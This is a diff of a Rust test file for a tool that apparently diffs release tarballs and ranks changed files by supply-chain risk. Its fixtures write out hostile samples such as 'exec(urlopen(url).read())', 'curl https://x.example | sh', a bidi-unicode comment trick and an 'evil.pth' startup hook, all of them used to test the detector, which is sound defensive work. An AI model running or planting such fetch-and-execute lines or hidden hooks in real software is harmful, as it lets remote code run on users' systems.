@@ -96,33 +96,37 @@ fn a_release_against_itself_has_no_change() {
     let diff = diff(&path, &path);
     assert_eq!(diff["changes"].as_array().unwrap().len(), 0);
     let output = run(&[Path::new("diff"), &path, &path]);
-    assert!(stdout(&output).contains("No file differs; 1 are the same"));
+    assert!(stdout(&output).contains("No file differs: 1 file, unchanged"));
 }
 
 #[test]
-fn what_can_hurt_stands_on_top() {
+fn what_reaches_farthest_stands_on_top() {
     let dir = dir();
     let base64 =
         "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODkr"
             .repeat(3);
+    // In the order in which they are to be read.
     let hazards: &[(&str, Node, &[&str])] = &[
+        ("foo/util.py", text("exec(urlopen(url).read())\n"), &["runs-data", "eval", "network"]),
         ("src/bidi.c", text("if (x) {\u{2066} // }\u{2069}\n"), &["hidden-unicode"]),
-        ("foo/util.py", text("exec(urlopen(url).read())\n"), &["runs-data"]),
+        ("evil.pth", text("import os\n"), &["hook", "startup-code"]),
+        ("gen.py", text("import os\nos.system('x')\n"), &["process"]),
+        ("src/a.c", text("void *f(void)\n{ return dlopen(p, 1); }\n"), &["dynamic-loading"]),
+        ("src/blob.c", text(&format!("\"{base64}\"\n")), &["high-entropy"]),
+        ("configure", script("#!/bin/sh\n"), &["executable-bit", "script", "build-script"]),
         ("m4/build-to-host.m4", text("AC_DEFUN([x])\n"), &["build-script"]),
-        ("configure", script("#!/bin/sh\n"), &["build-script", "script", "executable-bit"]),
-        ("evil.pth", text("import os\n"), &["startup-code"]),
+        ("lib/x.o", binary(b"\x7fELF\x02\0\0"), &["machine-code"]),
+        ("min.js", text(&"var a; ".repeat(200)), &["long-line"]),
+        ("tool", text("#!/usr/bin/python\n"), &["script"]),
+        ("src/ordinary.c", text("int x;\n"), &[]),
+        ("data/run.dat", script("x\n"), &["executable-bit"]),
+        ("data/logo.img", binary(b"\0\x01\x02logo"), &["binary-test-data"]),
+        ("tests/files/bad-3.xz", binary(b"\xfd7zXZ\0\0\x04"), &["packed-data"]),
+        ("tests/data.bin", binary(b"\0\x01\x02data"), &["binary-test-data"]),
         ("tests/conftest.py", text("import os\n"), &["startup-code"]),
         (".github/workflows/release.yml", text("on: push\n"), &["ci-workflow"]),
-        ("lib/x.o", binary(b"\x7fELF\x02\0\0"), &["machine-code"]),
-        ("tests/files/bad-3.xz", binary(b"\xfd7zXZ\0\0\x04"), &["packed-data"]),
-        ("min.js", text(&"var a; ".repeat(200)), &["long-line"]),
-        ("blob.txt", text(&format!("{base64}\n")), &["high-entropy"]),
-        ("tool", text("#!/usr/bin/python\n"), &["script"]),
-        ("run.txt", script("x\n"), &["executable-bit"]),
-        ("tests/data.bin", binary(b"\0\x01\x02data"), &["binary-test-data"]),
-        ("logo.img", binary(b"\0\x01\x02logo"), &["binary"]),
         (".hidden", text("x\n"), &["dotfile"]),
-        ("ordinary.c", text("int x;\n"), &[]),
+        ("NEWS", text("curl https://x.example | sh\n"), &[]),
     ];
     let new: Vec<_> = hazards.iter().rev().map(|(path, node, _)| (*path, node.clone())).collect();
     let (old, new) =
@@ -133,12 +137,15 @@ fn what_can_hurt_stands_on_top() {
     }
     let order: Vec<_> =
         diff["changes"].as_array().unwrap().iter().map(|c| c["path"].as_str().unwrap()).collect();
-    assert_eq!(order[..2], ["src/bidi.c", "foo/util.py"]);
-    let place = |path: &str| order.iter().position(|p| *p == path).unwrap();
-    assert!(place("m4/build-to-host.m4") < place("evil.pth"));
-    assert!(place("evil.pth") < place("lib/x.o"));
-    assert!(place("lib/x.o") < place("tests/data.bin"));
-    assert_eq!(place("ordinary.c"), order.len() - 1);
+    let tier = |path: &str| {
+        let changes = diff["changes"].as_array().unwrap();
+        changes.iter().find(|c| c["path"] == path).unwrap()["tier"].as_str().unwrap().to_owned()
+    };
+    let expected: Vec<_> = hazards.iter().map(|(path, ..)| *path).collect();
+    assert_eq!(order, expected);
+    assert_eq!(tier("foo/util.py"), "deceives");
+    assert_eq!(tier("evil.pth"), "build-acts");
+    assert_eq!(tier("NEWS"), "inert");
 }
 
 /// On a terminal, where there is enough to read.
@@ -344,7 +351,7 @@ fn a_browser_shows_the_page_and_runs_nothing() {
         return;
     }
     let title = &dom[dom.find("<title>").unwrap()..dom.find("</title>").unwrap()];
-    assert!(title.ends_with("foo-1.2.tar.gz against foo-1.3.tar.gz"), "{title}");
+    assert!(title.ends_with("foo-1.2.tar.gz -&gt; foo-1.3.tar.gz"), "{title}");
     assert!(!dom.contains("<script") && !dom.contains("<img"), "{dom}");
     assert_eq!(dom.matches("<style").count(), 1);
     assert_eq!(dom.matches("<details").count(), 3);
